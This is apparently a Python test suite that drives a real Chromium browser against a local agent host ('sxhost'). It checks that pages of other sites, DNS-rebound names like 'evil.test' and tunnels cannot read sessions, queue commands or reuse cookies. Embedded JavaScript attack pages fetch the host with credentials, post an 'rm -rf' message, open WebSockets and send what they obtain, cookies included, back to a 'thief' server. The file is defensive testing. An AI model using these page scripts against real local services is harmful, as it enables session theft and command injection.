"""Attacks from pages of other sites, in a real Chromium, against a real host.

The pages run on the same machine as the host, under a name that leads to it, as after DNS
rebinding.  What each attack got, the page sends home.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from html import unescape
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from itertools import product
from pathlib import Path
from queue import SimpleQueue
from threading import Thread
from typing import Any
from urllib.request import ProxyHandler, Request, build_opener

import pytest
from playwright.sync_api import Browser, Page

from sxhost.auth.tokens import token_file
from tests.process.test_strangers import NOBODY, curl
from tests.support.dashboards import browser
from tests.support.hosts import PATIENCE, Host, StartHost
from tests.support.proxies import nginx, tunnel

__all__ = ["browser"]

NOTHING = ("blocked", "opaque")
"""What an attack got that read nothing; whether it did something, the host tells."""

ATTACKS = """<!doctype html><script>
const port = PORT, got = {};
const read = async (name, url, how) => {
  try {
    const answer = await fetch(url, how);
    got[name] = answer.type === "opaque" ? "opaque" : await answer.text();
  } catch (error) { got[name] = "blocked"; }
};
const listen = (name, url) => new Promise(done => {
  const socket = new WebSocket(url);
  socket.onmessage = said => { got[name] = said.data; done(); };
  socket.onclose = () => { got[name] ??= "blocked"; done(); };
});
const message = {method: "POST", body: JSON.stringify({content: "rm -rf"})};
const plain = {...message, mode: "no-cors", headers: {"Content-Type": "text/plain"}};
const typed = {...message, headers: {"Content-Type": "application/json"}};
const cookies = {credentials: "include"};
(async () => {
  for (const host of ["127.0.0.1", "localhost", "0.0.0.0", "evil.test"]) {
    const url = `http://${host}:${port}`;
    await read(`GET ${host}`, `${url}/sessions`, cookies);
    await read(`pull ${host}`, `${url}/sessions/a/messages`, {mode: "no-cors"});
    await read(`plain ${host}`, `${url}/sessions/a/messages`, plain);
    await read(`typed ${host}`, `${url}/sessions/a/messages`, typed);
    await listen(`socket ${host}`, `ws://${host}:${port}/v1/stream?after=0`);
  }
  await fetch("/got", {method: "POST", body: JSON.stringify(got)});
})();
</script>"""


class Attacker(SimpleHTTPRequestHandler):
    """Another site: serves its page, and hears what that got."""

    got: SimpleQueue[dict[str, str]]

    def do_POST(self) -> None:
        got = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.got.put({**got, "cookie": self.headers.get("Cookie", "")})
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@contextmanager
def site(place: Path, port: int) -> Iterator[tuple[int, SimpleQueue[dict[str, str]]]]:
    """Run another site whose page attacks the host; its port, and what the page got."""
    place.mkdir()
    (place / "index.html").write_text(ATTACKS.replace("PORT", str(port)))
    got: SimpleQueue[dict[str, str]] = SimpleQueue()
    handler = type("Handler", (Attacker,), {"got": got})
    with ThreadingHTTPServer(
        ("127.0.0.1", 0), partial(handler, directory=str(place))
    ) as server:
        thread = Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        try:
            yield server.server_port, got
        finally:
            server.shutdown()
            thread.join()


def ask(url: str, body: Any = None) -> Any:
    """Ask the host as its own user does."""
    data = None if body is None else json.dumps(body).encode()
    headers = {"Content-Type": "application/json"}
    with build_opener(ProxyHandler({})).open(
        Request(url, data, headers), timeout=PATIENCE
    ) as a:
        return json.loads(a.read())


@pytest.fixture
def visitor(browser: Browser) -> Iterator[Page]:
    """Return a browser's only page; the browser has been nowhere yet."""
    context = browser.new_context()
    context.set_default_timeout(PATIENCE * 1000)
    yield context.new_page()
    context.close()


def visit(visitor: Page, url: str) -> str:
    """Go to a page; return it as text."""
    visitor.goto(url)
    return unescape(visitor.content())


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "evil.test"])
def test_page_of_another_site_gets_nothing(
    name: str, running_host: Host, visitor: Page, tmp_path: Path
) -> None:
    ask(f"{running_host.url}/sessions/a/register", {"title": "a secret"})
    ask(f"{running_host.url}/sessions/a/messages", {"content": "for the agent"})
    with site(tmp_path / "site", running_host.port) as (port, got):
        visit(visitor, f"http://{name}:{port}")
        answers = got.get(timeout=PATIENCE)
    assert answers.pop("cookie") == ""
    assert len(answers) == 20
    assert {name: text for name, text in answers.items() if text not in NOTHING} == {}
    (message,) = ask(f"{running_host.url}/sessions/a/messages?peek=1")
    assert (message["content"], message["state"]) == ("for the agent", "queued")
    running_host.stop()
    assert running_host.output().count('" 403 ') >= 12


def test_rebound_dns_name_reads_nothing(running_host: Host, visitor: Page) -> None:
    ask(f"{running_host.url}/sessions/a/register", {"title": "a secret"})
    shown = visit(visitor, f"http://evil.test:{running_host.port}/sessions")
    assert "forbidden_host" in shown
    assert "a secret" not in shown


THROUGH = """<!doctype html><script>
const got = {};
const headers = {"Content-Type": "application/json"};
const body = JSON.stringify({title: "from the page"});
(async () => {
  const made = await fetch("/sessions/b/register", {method: "POST", headers, body});
  got.register = made.status;
  got.sessions = (await (await fetch("/sessions")).json()).length;
  await new Promise(done => {
    const socket = new WebSocket(`ws://${location.host}/v1/stream?after=0`);
    socket.onmessage = () => { got.socket = "hello"; done(); };
    socket.onerror = () => { got.socket = "refused"; done(); };
  });
  const sent = {method: "POST", mode: "no-cors"};
  await fetch("http://127.0.0.1:OTHER/got", {...sent, body: JSON.stringify(got)});
})();
</script>"""
"""What a dashboard does at a port that is not the host's; then it says what it got."""


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_page_uses_the_host_at_any_port_of_loopback(
    name: str, start_host: StartHost, visitor: Page, tmp_path: Path
) -> None:
    host = start_host("--port", "0", "--no-token")
    page = tmp_path / "page.html"
    with (
        site(tmp_path / "site", host.port) as (other, got),
        nginx(tmp_path / "nginx", host.port, page=page) as front,
    ):
        page.write_text(THROUGH.replace("OTHER", str(other)))
        visit(visitor, front.replace("127.0.0.1", name))
        answers = got.get(timeout=PATIENCE)
    answers.pop("cookie")
    assert answers == {"register": 200, "sessions": 1, "socket": "hello"}


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_host_is_seen_through_a_tunnel(name: str, running_host: Host, visitor: Page) -> None:
    ask(f"{running_host.url}/sessions/a/register", {"title": "a secret"})
    with tunnel(running_host.port) as port:
        url = f"http://{name}:{port}"
        assert "a secret" in visit(visitor, f"{url}/sessions/a")
        assert ask(f"{url}/sessions/a/messages", {"content": "hi"})["queued"] == 1


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "evil.test"])
def test_page_of_another_site_gets_nothing_through_a_tunnel(
    name: str, running_host: Host, visitor: Page, tmp_path: Path
) -> None:
    """DNS rebinding needs a name that is resolved, and that is never a loopback name."""
    ask(f"{running_host.url}/sessions/a/register", {"title": "a secret"})
    ask(f"{running_host.url}/sessions/a/messages", {"content": "for the agent"})
    with tunnel(running_host.port) as through:
        with site(tmp_path / "site", through) as (port, got):
            visit(visitor, f"http://{name}:{port}")
            answers = got.get(timeout=PATIENCE)
        answers.pop("cookie")
        assert len(answers) == 20
        assert set(answers.values()) <= set(NOTHING)
        shown = visit(visitor, f"http://evil.test:{through}/sessions")
    assert "forbidden_host" in shown
    assert "a secret" not in shown
    (message,) = ask(f"{running_host.url}/sessions/a/messages?peek=1")
    assert (message["content"], message["state"]) == ("for the agent", "queued")


def link_to(host: Host, state: Path) -> str:
    """Return the path of a link that lets a browser in."""
    token = token_file(state).read_text(encoding="ascii").strip()
    asked = Request(f"{host.url}/logins", b"", {"Authorization": f"Bearer {token}"})
    with build_opener(ProxyHandler({})).open(asked, timeout=PATIENCE) as answer:
        return str(json.loads(answer.read())["path"])


def test_login_link_works_in_a_real_browser(
    start_host: StartHost, visitor: Page, tmp_path: Path
) -> None:
    host = start_host("--port", "0", "--require-token")
    assert host.port
    path = link_to(host, tmp_path / "state")
    assert "unauthorized" in visit(visitor, f"{host.url}/status")
    assert "<title>sxhost</title>" in visit(visitor, f"{host.url}{path}")
    assert '"version":' in visit(visitor, f"{host.url}/status")
    assert "unauthorized" in visit(visitor, f"{host.url}{path}")


def test_browser_that_cannot_say_that_it_navigates_is_asked(
    start_host: StartHost, visitor: Page, tmp_path: Path
) -> None:
    """Without TLS and under another name it is told apart from no link preview."""
    host = start_host("--port", "0", "--require-token", "--allow-host", "evil.test")
    assert host.port
    path = link_to(host, tmp_path / "state")
    shown = visit(visitor, f"http://evil.test:{host.port}{path}")
    assert '<form method="post">' in shown
    assert "<title>sxhost</title>" in visit(visitor, f"{host.url}{path}")
    assert '"version":' in visit(visitor, f"{host.url}/status")


PAGE = """<!doctype html><script>
const got = {}, told = new URLSearchParams(location.hash.slice(1)).get("page");
if (told) { localStorage.setItem("page", told); history.replaceState(null, "", "/"); }
const kept = localStorage.getItem("page");
const ask = async (name, headers) => {
  got[name] = (await fetch("/status", {headers})).status;
};
const listen = (name, protocols) => new Promise(done => {
  const socket = new WebSocket(`ws://${location.host}/v1/stream?after=0`, protocols);
  socket.onmessage = () => { got[name] = "hello"; socket.close(); done(); };
  socket.onerror = () => { got[name] = "refused"; done(); };
});
(async () => {
  await ask("page", {"Sxhost-Page": kept});
  await ask("cookie alone", {});
  await listen("socket", ["sxhost", `sxhost-page.${kept}`]);
  await listen("socket alone", []);
  const sent = {method: "POST", mode: "no-cors", credentials: "include"};
  await fetch("http://127.0.0.1:THIEF/", {...sent, body: JSON.stringify(got)});
})();
</script>"""
"""What a dashboard does behind a proxy; then it says what it got to another port."""


def test_cookie_seen_by_another_port_is_worth_nothing(
    start_host: StartHost, visitor: Page, tmp_path: Path
) -> None:
    """Another port of the same name is the same site, so that no attribute keeps it away."""
    host = start_host("--port", "0", "--require-token", "--allow-host", "127.0.0.1")
    page = tmp_path / "page.html"
    assert host.port
    link = link_to(host, tmp_path / "state")
    with (
        site(tmp_path / "thief", host.port) as (thief, stolen),
        nginx(tmp_path / "nginx", host.port, page=page) as front,
    ):
        page.write_text(PAGE.replace("THIEF", str(thief)))
        visit(visitor, front + link)
        got = stolen.get(timeout=PATIENCE)
        cookie = got.pop("cookie")
        assert got == {
            "page": 200, "cookie alone": 401, "socket": "hello", "socket alone": "refused",
        }  # fmt: skip
        assert cookie.startswith(f"sxhost-{host.port}=")
        as_token = f"Authorization: Bearer {cookie.partition('=')[2]}"
        for uid, url in product((os.getuid(), NOBODY), (front, host.url)):
            assert curl(uid, "-H", as_token, f"{url}/status")[0] == 401
            shown = curl(uid, "-H", f"Cookie: {cookie}", f"{url}/status")[0]
            own = uid == os.getuid() and url == host.url
            assert shown == (200 if own else 401)
